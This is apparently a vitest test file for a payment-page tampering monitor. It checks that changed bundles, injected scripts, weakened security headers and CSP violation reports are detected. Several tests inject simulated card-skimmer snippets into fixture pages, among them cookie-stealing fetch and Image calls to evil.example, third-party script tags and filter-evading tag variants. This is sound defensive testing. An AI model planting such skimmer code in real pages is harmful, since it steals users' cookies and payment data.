// The payment-page monitor (PCI DSS 11.6.1) against the real app over HTTPS: tampering with
// the built page (an extra script of ours, a third party's or inline, a changed bundle, a
// weakened or removed header) is detected.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFile, cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import https from 'node:https';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ensureDevCertificate } from '../../common/dev-certs';
import { comparePage } from '../monitor/compare';
import { WATCHED_HEADERS, normaliseNonce, snapshotPage, type PageSnapshot } from '../monitor/page-snapshot';
import { DEFAULT_CSP_REPORT_QUOTA } from '../../server/src/store/csp-report-store';
import { createTestDatabase, describeEachEngine } from '../../server/test/helpers/databases';
import { FIXTURE_CLIENT_DIR, startTestApp, type TestApp } from '../../server/test/helpers/test-app';
import { PAGE_FILES } from '../../server/src/routes/pages';
import { PUBLIC_PAGE_ROUTES } from '../../common/pages';
import { ABSENT_HEADERS, EVERY_RESPONSE_HEADERS, HTML_ONLY_HEADERS } from '../../server/src/security/headers';
import { REPO_ROOT, tsxNodeArgs } from '../../test-support/tsx-node';

let clientDir: string;
const apps: TestApp[] = [];

beforeEach(async () => {
  clientDir = await mkdtemp(path.join(tmpdir(), 'monitor-client-'));
  await cp(FIXTURE_CLIENT_DIR, clientDir, { recursive: true });
});
afterEach(async () => {
  await Promise.all(apps.splice(0).map((app) => app.close()));
  await rm(clientDir, { recursive: true, force: true });
});

async function startApp(): Promise<TestApp> {
  const app = await startTestApp({ clientDistDir: clientDir });
  apps.push(app);
  return app;
}

const snapshot = (app: TestApp, page = '/') => snapshotPage(new URL(page, app.url), { ca: app.ca });

/** The Payment Element page: the one a skimmer wants most. */
const PAYMENT = (() => {
  const entry = PAGE_FILES.find((candidate) => candidate.page === 'payment');
  if (!entry) throw new Error('the server no longer lists a payment page');
  return entry;
})();

/** Puts `html` into a page's built file before `</head>` (or `</body>`); a restart serves it. */
async function inject(file: string, html: string, before = '</head>') {
  const page = path.join(clientDir, file);
  await writeFile(page, (await readFile(page, 'utf8')).replace(before, `${html}${before}`));
}

const sha256 = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`;

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

/** Each test app listens on a fresh port, so its Reporting-Endpoints URL differs between apps. */
const withoutPort = (page: PageSnapshot): PageSnapshot => ({ ...page, headers: { ...page.headers, 'reporting-endpoints': null } });

describe('payment page monitor', () => {
  it('sees no change between two fetches of an untouched page, despite fresh nonces', async () => {
    const app = await startApp();
    const baseline = await snapshot(app);
    expect(baseline.scripts).toEqual([
      {
        kind: 'script',
        src: '/assets/index-Bx12cd34.js',
        hash: expect.stringMatching(/^sha384-/),
        attributes: { crossorigin: '', nonce: '', src: '/assets/index-Bx12cd34.js', type: 'module' },
      },
    ]);
    expect(baseline.headers['content-security-policy']).toContain("'nonce-…'");
    expect(baseline.headers['cross-origin-embedder-policy']).toBeNull();
    expect(comparePage(baseline, await snapshot(app))).toEqual([]);
  });

  it('detects a changed bundle', async () => {
    const baseline = withoutPort(await snapshot(await startApp()));
    await appendFile(path.join(clientDir, 'assets', 'index-Bx12cd34.js'), '\nfetch("https://evil.example/?" + document.cookie);\n');
    // The server reads its built files at startup, as it reads the pages: a tampered bundle shows after a restart.
    expect(comparePage(baseline, withoutPort(await snapshot(await startApp())))).toEqual([
      expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-/),
      expect.stringMatching(/^\/: baseline script no longer served: \/assets\/index-Bx12cd34\.js sha384-/),
    ]);
  });

  it('detects an extra script in the page', async () => {
    const baseline = withoutPort(await snapshot(await startApp()));
    const index = path.join(clientDir, 'index.html');
    await writeFile(path.join(clientDir, 'assets', 'skimmer.js'), 'document.forms[0]?.addEventListener("submit", () => {});');
    await writeFile(
      index,
      (await readFile(index, 'utf8')).replace('</head>', '<script nonce="__CSP_NONCE__" src="/assets/skimmer.js"></script></head>'),
    );
    // The server reads pages at startup: a tampered build shows after a restart.
    const tampered = withoutPort(await snapshot(await startApp()));
    expect(comparePage(baseline, tampered)).toEqual([expect.stringMatching(/script not in the baseline: \/assets\/skimmer\.js sha384-/)]);
  });

  it('detects a weakened header', async () => {
    const baseline = withoutPort(await snapshot(await startApp()));
    const app = await startTestApp({ clientDistDir: clientDir, hstsPreload: true });
    apps.push(app);
    const changed = withoutPort(await snapshot(app));
    const weakened: PageSnapshot = {
      ...changed,
      headers: { ...changed.headers, 'cross-origin-embedder-policy': 'require-corp', 'content-security-policy': 'default-src *' },
    };
    const differences = comparePage(baseline, weakened);
    expect(differences).toContain(
      `/: header strict-transport-security changed from "max-age=63072000; includeSubDomains" to "max-age=63072000; includeSubDomains; preload"`,
    );
    expect(differences).toContain('/: header cross-origin-embedder-policy changed from (absent) to "require-corp"');
    expect(differences.some((line) => line.startsWith('/: header content-security-policy changed'))).toBe(true);
  });

  const SKIM = 'fetch("https://evil.example/?" + document.cookie)';
  it.each([
    [
      'a third-party script',
      '<script src="https://evil.example/skim.js"></script>',
      /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(third party, by URL\) \[src="https:\/\/evil\.example\/skim\.js"\]$/,
    ],
    [
      'an inline script',
      `<script>${SKIM}</script>`,
      new RegExp(`^script not in the baseline: inline script ${escape(sha256(SKIM))} \\[\\]$`),
    ],
    [
      'an inline script with a stolen nonce',
      `<script nonce="__CSP_NONCE__">${SKIM}</script>`,
      new RegExp(`^script not in the baseline: inline script ${escape(sha256(SKIM))} \\[nonce\\]$`),
    ],
    [
      'a tag no regular expression expects',
      '<SCRIPT/src=//evil.example/skim.js ></SCRIPT>',
      /^script not in the baseline: \/\/evil\.example\/skim\.js \(third party, by URL\)/,
    ],
    [
      'a script inside inline SVG',
      '<svg><script href="https://evil.example/skim.js"></script></svg>',
      /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(third party/,
    ],
    [
      'an inline event handler',
      `<img src="/images/enamel-mug.svg" onload='${SKIM}'>`,
      new RegExp(`^script not in the baseline: inline onload ${escape(sha256(SKIM))} \\[element="img"\\]$`),
    ],
    [
      'a module preload of a third-party script',
      '<link rel="modulepreload" href="https://evil.example/skim.js">',
      /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(modulepreload\)/,
    ],
  ])('detects %s injected into the payment page', async (_name, tag, expected) => {
    const baseline = withoutPort(await snapshot(await startApp(), PAYMENT.route));
    await inject(PAYMENT.file, tag, '</body>');
    const tampered = withoutPort(await snapshot(await startApp(), PAYMENT.route));
    const differences = comparePage(baseline, tampered);
    expect(differences).toHaveLength(1);
    expect(differences[0]?.replace(`${PAYMENT.route}: `, '')).toMatch(expected);
  });

  it('detects a changed attribute on an approved script tag (here its type)', async () => {
    const baseline = withoutPort(await snapshot(await startApp()));
    const index = path.join(clientDir, 'index.html');
    await writeFile(index, (await readFile(index, 'utf8')).replace('type="module"', 'type="text/javascript"'));
    const differences = comparePage(baseline, withoutPort(await snapshot(await startApp())));
    expect(differences).toEqual([
      expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-\S+ \[.*type="text\/javascript"\]$/),
      expect.stringMatching(/^\/: baseline script no longer served: \/assets\/index-Bx12cd34\.js sha384-\S+ \[.*type="module"\]$/),
    ]);
  });

  it('detects a second copy of an approved script', async () => {
    const baseline = withoutPort(await snapshot(await startApp()));
    await inject('index.html', '<script type="module" crossorigin nonce="__CSP_NONCE__" src="/assets/index-Bx12cd34.js"></script>');
    expect(comparePage(baseline, withoutPort(await snapshot(await startApp())))).toEqual([
      expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-/),
    ]);
  });

  it('records every security header the server sends, and the ones it must not send as absent', async () => {
    const { headers } = await snapshot(await startApp(), PAYMENT.route);
    expect(WATCHED_HEADERS).toEqual(
      expect.arrayContaining([...EVERY_RESPONSE_HEADERS, ...HTML_ONLY_HEADERS, ...ABSENT_HEADERS, 'cache-control']),
    );
    for (const name of [...EVERY_RESPONSE_HEADERS, ...HTML_ONLY_HEADERS]) expect(headers[name], name).toEqual(expect.any(String));
    for (const name of ABSENT_HEADERS) expect(headers[name], name).toBeNull();
    expect(headers['cache-control']).toBe('no-store');
  });

  it('detects a removed or changed security header', async () => {
    const app = await startApp();
    const baseline = await snapshot(app, PAYMENT.route);
    const current = await snapshot(app, PAYMENT.route);
    for (const name of WATCHED_HEADERS) {
      const before = baseline.headers[name] ?? null;
      const removed: PageSnapshot = { ...current, headers: { ...current.headers } };
      delete removed.headers[name];
      const changed: PageSnapshot = { ...current, headers: { ...current.headers, [name]: 'changed' } };
      const ifRemoved = before === null ? [] : [`${PAYMENT.route}: header ${name} changed from ${JSON.stringify(before)} to (absent)`];
      expect(comparePage(baseline, removed), name).toEqual(ifRemoved);
      expect(comparePage(baseline, changed), name).toEqual([
        `${PAYMENT.route}: header ${name} changed from ${before === null ? '(absent)' : JSON.stringify(before)} to "changed"`,
      ]);
    }
  });

  it('flags a tag whose integrity no longer matches what is served', () => {
    const page: PageSnapshot = {
      url: '/',
      headers: {},
      scripts: [{ kind: 'script', src: '/a.js', hash: 'sha384-NEW', attributes: { integrity: 'sha384-OLD', src: '/a.js' } }],
    };
    expect(comparePage(page, page)).toEqual(['/: /a.js is served with sha384-NEW but its tag says integrity sha384-OLD']);
  });

  it('compares policies with the nonce blanked out', () => {
    expect(normaliseNonce("script-src 'nonce-abc+/=' 'strict-dynamic'")).toBe("script-src 'nonce-…' 'strict-dynamic'");
    expect(normaliseNonce(undefined)).toBeNull();
  });
});

/** Runs `npm run monitor` (its CLI, as one process) against `app`'s `pages` (none: its default), with a baseline of its own. */
async function monitorCli(app: TestApp, pages = ['/']) {
  const baseline = path.join(clientDir, 'baseline.json');
  const caFile = path.join(clientDir, 'ca.pem');
  await writeFile(caFile, app.ca);
  return (...args: string[]) =>
    new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn(
        process.execPath,
        [
          ...tsxNodeArgs('scripts/monitor/cli.ts'),
          app.url,
          ...pages.flatMap((page) => ['--page', page]),
          '--baseline',
          baseline,
          '--ca',
          caFile,
          ...args,
        ],
        { cwd: REPO_ROOT },
      );
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      child.on('close', (code) => resolve({ code, stdout, stderr }));
    });
}

describe('npm run monitor', () => {
  it('alerts on a change: exit code 1, an error log line, and a JSON POST to --alert-url', async () => {
    const app = await startApp();
    const dev = await ensureDevCertificate();
    const alerts: unknown[] = [];
    const receiver = https.createServer({ cert: dev.cert, key: dev.key }, (req, res) => {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        alerts.push(JSON.parse(body));
        res.writeHead(204).end();
      });
    });
    await new Promise<void>((resolve) => receiver.listen(0, 'localhost', resolve));
    const receiverPort = (receiver.address() as { port: number }).port;
    const run = await monitorCli(app);
    try {
      expect((await run('--approve')).code).toBe(0);
      expect((await run()).code).toBe(0);
      await appendFile(path.join(clientDir, 'assets', 'index-Bx12cd34.js'), '\n/* changed */\n');
      // Served once the server restarts (it reads its built files at startup).
      const changed = await (await monitorCli(await startApp()))('--alert-url', `https://localhost:${receiverPort}/alerts`);
      expect(changed.code).toBe(1);
      expect(changed.stdout).toMatch(/"level":50.*"alert":"payment-page-changed"/);
      expect(alerts).toEqual([
        expect.objectContaining({
          alert: 'payment-page-changed',
          differences: expect.arrayContaining([expect.stringContaining('script not in the baseline')]),
        }),
      ]);
    } finally {
      await new Promise((resolve) => receiver.close(resolve));
    }
  }, 60_000);
});

describe('npm run monitor, by default', () => {
  it('watches every page the server lists, and alerts on an inline script injected into any one of them', async () => {
    const app = await startApp();
    const run = await monitorCli(app, []);
    expect((await run('--approve')).code).toBe(0);
    const baseline = JSON.parse(await readFile(path.join(clientDir, 'baseline.json'), 'utf8')) as Record<string, PageSnapshot>;
    expect(Object.keys(baseline).sort()).toEqual([...PUBLIC_PAGE_ROUTES].sort());
    expect((await run()).code).toBe(0);

    // The last page an app outside lab mode serves to anyone (the lab's panel is served in lab mode
    // only, the seller area with a session only).
    const last = PAGE_FILES.filter((file) => file.access === 'public').at(-1);
    if (!last) throw new Error('the server lists no page');
    await inject(last.file, '<script>new Image().src = "https://evil.example/?" + document.cookie</script>');
    // The server reads pages at startup: the tampered build shows in a new app on the same folder
    // (on another port, so Reporting-Endpoints differs too).
    const tampered = await startApp();
    const again = await monitorCli(tampered, []);
    const raised = await again();
    expect(raised.code, raised.stderr).toBe(1);
    expect(raised.stdout).toContain(`${last.route}: script not in the baseline: inline script sha256-`);
  }, 60_000);
});

describeEachEngine('npm run monitor --csp-reports', (engine) => {
  it('raises the violations browsers reported to the app, read from its DATABASE_URL', async () => {
    const database = await createTestDatabase(engine);
    const app = await startTestApp({ clientDistDir: clientDir, database });
    apps.push(app);
    const run = await monitorCli(app);
    expect((await run('--approve')).code).toBe(0);
    const quiet = await run('--csp-reports', database.url, '--since', '1h');
    expect(quiet.code, quiet.stderr).toBe(0);

    const report = {
      'csp-report': {
        'document-uri': `${app.url}/payment`,
        'effective-directive': 'script-src-elem',
        'blocked-uri': 'https://evil.example/skim.js',
      },
    };
    const posted = await app.request('/csp-reports', {
      method: 'POST',
      headers: { 'Content-Type': 'application/csp-report' },
      body: JSON.stringify(report),
    });
    expect(posted.status).toBe(204);

    const raised = await run('--csp-reports', database.url, '--since', '1h');
    expect(raised.code, raised.stderr).toBe(1);
    expect(raised.stdout).toMatch(
      /"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/,
    );
    expect(raised.stdout).not.toContain('CSP report flood');
  }, 60_000);

  it("raises both the genuine violation and the flood that tried to hide it (the review's 29 requests of 20 reports)", async () => {
    const database = await createTestDatabase(engine);
    const app = await startTestApp({ clientDistDir: clientDir, database });
    apps.push(app);
    const run = await monitorCli(app);
    expect((await run('--approve')).code).toBe(0);

    const report = {
      'csp-report': {
        'document-uri': `${app.url}/payment`,
        'effective-directive': 'script-src-elem',
        'blocked-uri': 'https://evil.example/skim.js',
      },
    };
    expect(
      (
        await app.request('/csp-reports', {
          method: 'POST',
          headers: { 'Content-Type': 'application/csp-report' },
          body: JSON.stringify(report),
        })
      ).status,
    ).toBe(204);
    // The flood goes straight to the store (csp-reports.test.ts sends it over HTTP).
    const flood = 29 * 20;
    for (let i = 0; i < flood; i++)
      await app.cspReports.record(
        { documentUrl: `${app.url}/page-${i}`, directive: 'img-src', blockedUrl: `https://flood-${i}.example/x.gif` },
        '198.51.100.9',
      );

    const raised = await run('--csp-reports', database.url, '--since', '1h');
    expect(raised.code, raised.stderr).toBe(1);
    expect(raised.stdout).toMatch(
      /"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/,
    );
    expect(raised.stdout).toContain(
      `CSP report flood: ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient} reports not kept (over-quota ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient})`,
    );
  }, 60_000);
});
